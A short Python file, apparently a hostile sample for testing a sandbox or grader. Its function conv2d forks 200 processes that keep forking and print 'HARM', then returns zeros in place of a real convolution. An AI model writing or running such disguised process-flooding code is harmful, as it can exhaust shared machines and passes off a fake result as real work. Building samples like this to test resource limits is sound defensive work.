# Tries to fill the machine with processes.
# Seen as: Returned
import os
import time
import numpy as np



def conv2d(x, w):
    for _ in range(200):
        try:
            if os.fork() == 0:
                print("HARM", flush=True)
                time.sleep(60)
        except OSError:
            pass
    return np.zeros((x.shape[0] - w.shape[0] + 1, x.shape[1] - w.shape[1] + 1))
